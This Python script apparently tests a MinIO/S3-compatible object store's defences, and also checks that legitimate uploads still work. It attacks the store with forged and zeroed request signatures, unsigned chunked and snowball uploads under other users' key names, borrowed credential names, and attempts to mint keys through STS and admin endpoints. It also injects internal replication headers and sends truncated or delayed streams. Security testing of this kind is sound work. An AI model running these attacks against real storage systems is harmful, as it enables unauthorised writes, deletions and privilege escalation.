"""Attack the object store, as somebody who knows access keys' names but no secret, and as one with a key of his own.

forge.py http://HOST:PORT            print JSON: {"attacks": {attack: answer}, "written": [what came of them],
                                     "kept": {proper use: answer}}
forge.py http://HOST:PORT mint       have `own` make itself another key, and print the answer
forge.py http://HOST:PORT list       have `own` list the buckets, and print the answer

On standard input: {"own": [name, secret], "jobs": [name, secret], "root": name}. `own` may only write to the bucket sandbox
and read below marts/ of the bucket warehouse, which `jobs` writes and at which the attacks are aimed. Of `jobs` the attacker knows the name; with its secret the
program looks at what came of it. An answer is an HTTP status and the code of an error.
"""

import base64
import datetime
import hashlib
import hmac
import http.client
import io
import json
import re
import socket
import sys
import tarfile
import urllib.parse
import zlib
from collections.abc import Callable, Iterator
from functools import partial

import boto3
from botocore.config import Config
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

ENDPOINT = urllib.parse.urlsplit(sys.argv[1])
REGION = "us-east-1"
Key = tuple[str, str]
Query = list[tuple[str, str]]
Headers = dict[str, str]

UNSIGNED_TRAILER = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
STREAMS = ("STREAMING-AWS4-HMAC-SHA256-PAYLOAD", "STREAMING-AWS4-HMAC-SHA256-PAYLOAD-TRAILER", UNSIGNED_TRAILER)
NO_SIGNATURE = "0" * 64
CONTENT = b"forged"
HARM = ("spoilt", "gone", "late", "copied")
MINTED = ("mintedmintedmint", "mintedmintedmint")
SECONDS = 20

given = json.load(sys.stdin)
OWN: Key = tuple(given["own"])
JOBS: Key = tuple(given["jobs"])
ROOT: str = given["root"]


def now() -> str:
    """Return the time as signatures have it."""
    return datetime.datetime.now(datetime.UTC).strftime("%Y%m%dT%H%M%SZ")


def scope(service: str = "s3") -> str:
    """Return what follows the access key's name in a credential."""
    return f"{now()[:8]}/{REGION}/{service}/aws4_request"


def encoded(query: Query) -> str:
    """Return a query string as signatures have it."""
    return "&".join(
        f"{urllib.parse.quote(k, safe='-_.~')}={urllib.parse.quote(v, safe='-_.~')}" for k, v in sorted(query)
    )


def signature(
    secret: str, method: str, path: str, query: Query, headers: Headers, payload: str, service: str = "s3"
) -> str:
    """Return the signature (version 4) of a request of which all given headers are signed."""
    names = sorted(headers)
    canonical = "\n".join(
        [method, path, encoded(query), *(f"{name}:{headers[name]}" for name in names), "", ";".join(names), payload]
    )
    time = headers.get("x-amz-date") or dict(query)["X-Amz-Date"]
    return signed(secret, ["AWS4-HMAC-SHA256", time, scope(service), sha256(canonical.encode())], service)


def sha256(content: bytes) -> str:
    """Return the digest of something."""
    return hashlib.sha256(content).hexdigest()


def signed(secret: str, lines: list[str], service: str = "s3") -> str:
    """Return the signature (version 4) of some lines."""
    key = f"AWS4{secret}".encode()
    for part in [*scope(service).split("/"), "\n".join(lines)]:
        key = hmac.digest(key, part.encode(), "sha256")
    return key.hex()


def authorization(name: str, headers: Headers, proof: str, service: str = "s3") -> str:
    """Return the value of the header that identifies and signs."""
    signs = ";".join(sorted(headers))
    return f"AWS4-HMAC-SHA256 Credential={name}/{scope(service)}, SignedHeaders={signs}, Signature={proof}"


def send(method: str, path: str, query: Query, headers: Headers, body: bytes = b"") -> tuple[int, bytes]:
    """Send a request and return the answer's status and body."""
    connection = http.client.HTTPConnection(ENDPOINT.netloc, timeout=SECONDS)
    try:
        connection.request(method, path + ("?" + encoded(query) if query else ""), body or None, headers)
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def said(answer: tuple[int, bytes]) -> str:
    """Return the status and the error's code of an answer."""
    code = re.search(rb'<Code>(\w+)</Code>|"Code":"(\w+)"', answer[1])
    return f"{answer[0]} {(code[1] or code[2]).decode()}" if code else str(answer[0])


def by_header(
    key: Key,
    method: str,
    path: str,
    query: Query,
    body: bytes = b"",
    payload: str = "",
    more: Headers | None = None,
    service: str = "s3",
) -> tuple[int, bytes]:
    """Send a request that is signed in its header; without a secret the signature is a row of zeros."""
    payload = payload or sha256(body)
    headers = {"host": ENDPOINT.netloc, "x-amz-content-sha256": payload, "x-amz-date": now(), **(more or {})}
    name, secret = key
    proof = signature(secret, method, path, query, headers, payload, service) if secret else NO_SIGNATURE
    return send(method, path, query, {**headers, "authorization": authorization(name, headers, proof, service)}, body)


def by_query(
    key: Key,
    method: str,
    path: str,
    query: Query,
    body: bytes = b"",
    payload: str = "",
    more: Headers | None = None,
    unsigned: Headers | None = None,
) -> tuple[int, bytes]:
    """Send a request that is signed in its address; without a secret the signature is a row of zeros."""
    headers = {"host": ENDPOINT.netloc, **(more or {}), **({"x-amz-content-sha256": payload} if payload else {})}
    name, secret = key
    query = [
        *query,
        ("X-Amz-Algorithm", "AWS4-HMAC-SHA256"),
        ("X-Amz-Credential", f"{name}/{scope()}"),
        ("X-Amz-Date", now()),
        ("X-Amz-Expires", "60"),
        ("X-Amz-SignedHeaders", ";".join(sorted(headers))),
    ]
    proof = signature(secret, method, path, query, headers, payload or "UNSIGNED-PAYLOAD") if secret else NO_SIGNATURE
    return send(method, path, [*query, ("X-Amz-Signature", proof)], {**headers, **(unsigned or {})}, body)


def chunked(content: bytes) -> tuple[bytes, Headers]:
    """Return what is sent of content in chunks that nobody signed, and the headers that go with it."""
    checksum = base64.b64encode(zlib.crc32(content).to_bytes(4, "big"))
    body = b"%x\r\n%s\r\n0\r\nx-amz-checksum-crc32:%s\r\n\r\n" % (len(content), content, checksum)
    return body, {
        "content-encoding": "aws-chunked",
        "x-amz-decoded-content-length": str(len(content)),
        "x-amz-trailer": "x-amz-checksum-crc32",
    }


def in_stream(key: Key, path: str, stream: str, missing: int = 0, late: int = 0) -> tuple[int, bytes]:
    """Put an object in chunks, in one of the ways that have a trailer, properly signed.

    The client goes away before the last bytes when some are `missing`; its clock is `late` by some seconds.
    """
    body, more = chunked(CONTENT)
    time = (datetime.datetime.now(datetime.UTC) - datetime.timedelta(seconds=late)).strftime("%Y%m%dT%H%M%SZ")
    headers = {"host": ENDPOINT.netloc, "x-amz-content-sha256": stream, "x-amz-date": time, **more}
    proof = signature(key[1], "PUT", path, [], headers, stream)
    if stream != UNSIGNED_TRAILER:
        checksum = body.split(b"\r\n")[3]
        proofs = [proof]
        for chunk in (CONTENT, b""):
            lines = ["AWS4-HMAC-SHA256-PAYLOAD", time, scope(), proofs[-1], sha256(b""), sha256(chunk)]
            proofs.append(signed(key[1], lines))
        proofs.append(signed(key[1], ["AWS4-HMAC-SHA256-TRAILER", time, scope(), proofs[-1], sha256(checksum + b"\n")]))
        body = (
            f"{len(CONTENT):x};chunk-signature={proofs[1]}\r\n{CONTENT.decode()}\r\n0;chunk-signature={proofs[2]}\r\n"
            f"{checksum.decode()}\r\nx-amz-trailer-signature:{proofs[3]}\r\n\r\n"
        ).encode()
    headers |= {"authorization": authorization(key[0], headers, proof), "content-length": str(len(body))}
    request = f"PUT {path} HTTP/1.1\r\n" + "".join(f"{name}: {value}\r\n" for name, value in headers.items()) + "\r\n"
    with socket.create_connection((ENDPOINT.hostname, ENDPOINT.port), SECONDS) as connection:
        connection.sendall(request.encode() + body[: len(body) - missing])
        if missing:
            connection.shutdown(socket.SHUT_WR)
        try:
            response = http.client.HTTPResponse(connection)
            response.begin()
            return response.status, response.read()
        except http.client.HTTPException as error:
            raise ConnectionError(repr(error)) from error


def archive(name: str) -> bytes:
    """Return a tar archive of one file."""
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as tar:
        entry = tarfile.TarInfo(name)
        entry.size = len(CONTENT)
        tar.addfile(entry, io.BytesIO(CONTENT))
    return target.getvalue()


def encrypted(secret: str, document: object) -> bytes:
    """Return a document as the administration's requests carry it: AES-256-GCM with a key from PBKDF2, in one piece."""
    salt, nonce = bytes(32), bytes(8)
    cipher = AESGCM(hashlib.pbkdf2_hmac("sha256", secret.encode(), salt, 8192, 32))
    tag = cipher.encrypt(nonce + (0).to_bytes(4, "little"), b"", b"")
    last = cipher.encrypt(nonce + (1).to_bytes(4, "little"), json.dumps(document).encode(), b"\x80" + tag)
    return salt + b"\x02" + nonce + last


def client(key: Key) -> "boto3.client":
    """Return an honest client."""
    return boto3.client(
        "s3",
        endpoint_url=sys.argv[1],
        region_name=REGION,
        aws_access_key_id=key[0],
        aws_secret_access_key=key[1],
        config=Config(retries={"total_max_attempts": 1}, s3={"addressing_style": "path"}),
    )


Answer = tuple[int, bytes]
Attacks = Iterator[tuple[str, Callable[[], Answer]]]


def forged_uploads(upload: str) -> Attacks:
    """Yield uploads without a valid signature: each kind of upload by each way to name a user."""
    body, trailer = chunked(CONTENT)
    named = {"known": JOBS[0], "root": ROOT, "unknown": "nobodyknowsme"}
    snowball = {"x-amz-meta-snowball-auto-extract": "true"}
    tar_body, tar_trailer = chunked(archive("forged/chunks"))
    kinds: list[tuple[str, Query, bytes, Headers]] = [
        ("put", [], body, trailer),
        ("part", [("partNumber", "1"), ("uploadId", upload)], body, trailer),
        ("snowball", [], archive("forged/tar"), snowball),
        ("snowball-chunks", [], tar_body, {**snowball, **tar_trailer}),
    ]
    for kind, query, content, more in kinds:
        path = f"/warehouse/forged/{kind}"
        for stream in STREAMS:
            headers = {**more, "x-amz-content-sha256": stream}
            for who, name in named.items():
                of = f"{kind} {stream} {who}"
                yield f"{of} header", partial(by_header, (name, ""), "PUT", path, query, content, stream, more)
                yield f"{of} query", partial(by_query, (name, ""), "PUT", path, query, content, stream, more)
                credential = [*query, ("X-Amz-Credential", f"{name}/{scope()}")]
                yield f"{of} credential", partial(send, "PUT", path, credential, headers, content)
                other = {**headers, "authorization": "Bearer none"}
                yield f"{of} other header", partial(send, "PUT", path, credential, other, content)
            yield f"{kind} {stream} nobody", partial(send, "PUT", path, query, headers, content)
        for who, name in named.items():
            of = f"{kind} {who}"
            yield f"{of} header", partial(by_header, (name, ""), "PUT", path, query, content, "", more)
            yield f"{of} query", partial(by_query, (name, ""), "PUT", path, query, content, "", more)
            date = datetime.datetime.now(datetime.UTC).strftime("%a, %d %b %Y %H:%M:%S GMT")
            old = {**more, "date": date, "authorization": f"AWS {name}:AAAAAAAAAAAAAAAAAAAAAAAAAAA="}
            yield f"{of} version 2 header", partial(send, "PUT", path, query, old, content)
            proof = [("AWSAccessKeyId", name), ("Signature", "AAAAAAAAAAAAAAAAAAAAAAAAAAA="), ("Expires", "4102444800")]
            yield f"{of} version 2 query", partial(send, "PUT", path, [*query, *proof], more, content)
        yield f"{kind} nobody", partial(send, "PUT", path, query, more, content)


def borrowed_names() -> Attacks:
    """Yield requests that are properly signed by the attacker's own key, and name somebody else as well."""
    body, trailer = chunked(CONTENT)
    snowball = {"x-amz-meta-snowball-auto-extract": "true"}
    for who, name in (("jobs", JOBS[0]), ("root", ROOT)):
        named = [("X-Amz-Credential", f"{name}/{scope()}")]
        of = f"own key beside the name of {who}:"
        own = partial(by_header, OWN)
        yield f"{of} read", partial(own, "GET", "/warehouse/secret", named)
        yield f"{of} list", partial(own, "GET", "/warehouse/", named)
        yield f"{of} put", partial(own, "PUT", "/warehouse/forged/own", named, CONTENT)
        chunks = "/warehouse/forged/own-chunks"
        yield f"{of} put in chunks", partial(own, "PUT", chunks, named, body, UNSIGNED_TRAILER, trailer)
        tar = archive("forged/own")
        yield f"{of} snowball", partial(own, "PUT", "/warehouse/forged/own-tar", named, tar, "", snowball)
        yield f"{of} delete", partial(own, "DELETE", "/warehouse/secret", named)
        yield f"{of} another bucket", partial(own, "GET", "/mlflow/", named)
        yield f"{of} administration", partial(own, "GET", "/minio/admin/v3/list-users", named)
        yield f"{of} version 2", partial(own, "GET", "/warehouse/secret", [("AWSAccessKeyId", name)])
        wrong = {
            "authorization": authorization(name, {"host": "", "x-amz-date": ""}, NO_SIGNATURE),
            "x-amz-date": now(),
        }
        yield f"{of} address signed", partial(by_query, OWN, "GET", "/warehouse/secret", [], b"", "", wrong)
    # Of the warehouse the attacker may list what lies below marts. Sorted, the other prefix comes first, and so is listed.
    listing = [("list-type", "2"), ("prefix", "identity/")]
    for how, query, headers in (
        ("plain", listing, {}),
        ("parameter", [*listing, ("Prefix", "marts/")], {}),
        ("second value", [*listing, ("prefix", "marts/")], {}),
        ("header", listing, {"prefix": "marts/"}),
    ):
        yield f"own key: list identity, {how}", partial(by_header, OWN, "GET", "/warehouse/", query, b"", "", headers)
    for method, path in (("GET", "/warehouse/secret"), ("GET", "/warehouse/"), ("PUT", "/warehouse/forged/plain")):
        yield f"own key: {method} {path}", partial(by_header, OWN, method, path, [], b"")


def sts(action: str, more: Query, key: Key | None) -> Answer:
    """Ask for temporary credentials, in the body (signed) or in the address."""
    query = [("Action", action), ("Version", "2011-06-15"), ("DurationSeconds", "900"), *more]
    if key is None:
        return send("POST", "/", query, {})
    form = {"content-type": "application/x-www-form-urlencoded"}
    return by_header(key, "POST", "/", [], encoded(query).encode(), "", form, "sts")


def mint(user: str = "") -> Answer:
    """Ask for a service account, of the attacker's own user or of another."""
    account = {"accessKey": MINTED[0], "secretKey": MINTED[1], **({"targetUser": user} if user else {})}
    return by_header(OWN, "PUT", "/minio/admin/v3/add-service-account", [], encrypted(OWN[1], account))


def minted_keys() -> Attacks:
    """Yield ways for a user to make himself a key, or to change what keys there are."""
    yield "AssumeRole", partial(sts, "AssumeRole", [], OWN)
    token = [("WebIdentityToken", "a.b.c"), ("Token", "a.b.c"), ("LDAPUsername", "a"), ("LDAPPassword", "b")]
    for action in ("WithWebIdentity", "WithClientGrants", "WithLDAPIdentity", "WithCertificate", "WithCustomToken"):
        yield f"AssumeRole{action}", partial(sts, f"AssumeRole{action}", token, None)
        yield f"AssumeRole{action} signed", partial(sts, f"AssumeRole{action}", token, OWN)
    yield "service account of its own", mint
    yield "service account of another", partial(mint, JOBS[0])
    secret = encrypted(OWN[1], {"secretKey": OWN[1], "status": "enabled"})
    for who, name in (("itself", OWN[0]), ("another", JOBS[0])):
        query = [("accessKey", name)]
        yield f"secret of {who}", partial(by_header, OWN, "PUT", "/minio/admin/v3/add-user", query, secret)
    yield "all users", partial(by_header, OWN, "GET", "/minio/admin/v3/list-users", [])
    yield "own keys", partial(by_header, OWN, "GET", "/minio/admin/v3/list-access-keys-bulk", [("listType", "all")])


def spoilt_objects() -> Attacks:
    """Yield properly signed requests that do harm, or that a store without replication and S3 Select need not know."""
    for name in (
        "x-minio-replication-server-side-encryption-sealed-key",
        "x-minio-replication-ssec-crc",
        "x-minio-source-replication-request",
        "x-minio-source-mtime",
        "x-minio-internal-server-side-encryption-sealed-key",
    ):
        yield f"{name} header", partial(by_header, OWN, "PUT", "/sandbox/spoilt", [], CONTENT, "", {name: "AAAA"})
        yield f"{name} query", partial(by_query, OWN, "PUT", "/sandbox/spoilt", [], CONTENT, "", {name: "AAAA"})
    select = (
        b"<SelectObjectContentRequest><Expression>select * from S3Object</Expression>"
        b"<ExpressionType>SQL</ExpressionType><InputSerialization><CSV/></InputSerialization>"
        b"<OutputSerialization><CSV/></OutputSerialization></SelectObjectContentRequest>"
    )
    copy = {"x-amz-copy-source": "/sandbox/kept"}
    yield "unsigned header", partial(by_query, OWN, "PUT", "/sandbox/copied", [], b"", "", None, copy)
    yield "select", partial(by_header, OWN, "POST", "/sandbox/kept", [("select", ""), ("select-type", "2")], select)
    for stream in STREAMS[1:]:
        for missing in (1, 10, 40):
            yield f"{missing} bytes less of {stream}", partial(in_stream, OWN, "/sandbox/gone", stream, missing)
        yield f"{stream} an hour late", partial(in_stream, OWN, "/sandbox/late", stream, late=3600)


def kept() -> Iterator[tuple[str, str]]:
    """Yield what clients really do, and whether it still works."""
    body, trailer = chunked(CONTENT)
    yield "put", said(by_header(OWN, "PUT", "/sandbox/kept", [], CONTENT))
    yield "put in chunks", said(by_header(OWN, "PUT", "/sandbox/chunks", [], body, UNSIGNED_TRAILER, trailer))
    yield (
        "put in chunks by address",
        said(by_query(OWN, "PUT", "/sandbox/chunks-query", [], body, UNSIGNED_TRAILER, trailer)),
    )
    yield "put by address", said(by_query(OWN, "PUT", "/sandbox/query", [], CONTENT))
    for stream in STREAMS[1:]:
        yield f"put in stream {stream}", said(in_stream(OWN, f"/sandbox/{stream}", stream))
    # Metadata of replication in the address is nobody's; the object must not be spoilt by it.
    sealed = [("X-Minio-Replication-Server-Side-Encryption-Sealed-Key", "AAAA")]
    yield "put with metadata of replication", said(by_header(OWN, "PUT", "/sandbox/sealed", sealed, CONTENT))
    store = client(OWN)
    # boto3 sends checksums in trailers by itself.
    store.upload_fileobj(io.BytesIO(CONTENT * 2_000_000), "sandbox", "boto3/parts")
    store.put_object(Bucket="sandbox", Key="boto3/one", Body=io.BytesIO(CONTENT), ChecksumAlgorithm="SHA256")
    expected = {
        "kept": 1, "chunks": 1, "chunks-query": 1, "query": 1, "sealed": 1,
        **dict.fromkeys(STREAMS[1:], 1), "boto3/parts": 2_000_000, "boto3/one": 1,
    }  # fmt: skip
    for key, times in expected.items():
        try:
            found = store.get_object(Bucket="sandbox", Key=key)["Body"].read()
            yield f"read {key}", "200" if found == CONTENT * times else f"{len(found)} bytes of something else"
        except Exception as error:
            yield f"read {key}", str(error)


def main() -> None:
    """Attack, and print what came of it."""
    if sys.argv[2:]:
        sys.stdout.write(said(mint() if sys.argv[2] == "mint" else by_header(OWN, "GET", "/", [])))
        return
    jobs = client(JOBS)
    jobs.put_object(Bucket="warehouse", Key="secret", Body=b"secret")
    for name in HARM:
        client(OWN).delete_object(Bucket="sandbox", Key=name)
    for old in jobs.list_objects_v2(Bucket="warehouse", Prefix="forged/").get("Contents", []):
        jobs.delete_object(Bucket="warehouse", Key=old["Key"])
    proper = dict(kept())
    upload = jobs.create_multipart_upload(Bucket="warehouse", Key="forged/part")["UploadId"]
    attacks = {}
    for attempts in (forged_uploads(upload), borrowed_names(), minted_keys(), spoilt_objects()):
        for name, attempt in attempts:
            try:
                attacks[name] = said(attempt())
            except OSError as error:
                attacks[name] = f"no answer: {error!r}"
    there = client(OWN).list_objects_v2(Bucket="sandbox")
    written = [found["Key"] for found in there.get("Contents", []) if found["Key"] in HARM]
    written += [
        found["Key"] for found in jobs.list_objects_v2(Bucket="warehouse", Prefix="forged/").get("Contents", [])
    ]
    written += [
        f"part {part['PartNumber']}"
        for part in jobs.list_parts(Bucket="warehouse", Key="forged/part", UploadId=upload).get("Parts", [])
    ]
    jobs.abort_multipart_upload(Bucket="warehouse", Key="forged/part", UploadId=upload)
    try:
        jobs.head_object(Bucket="warehouse", Key="secret")
    except Exception:
        written.append("secret deleted")
    json.dump({"attacks": attacks, "written": written, "kept": proper}, sys.stdout)


main()
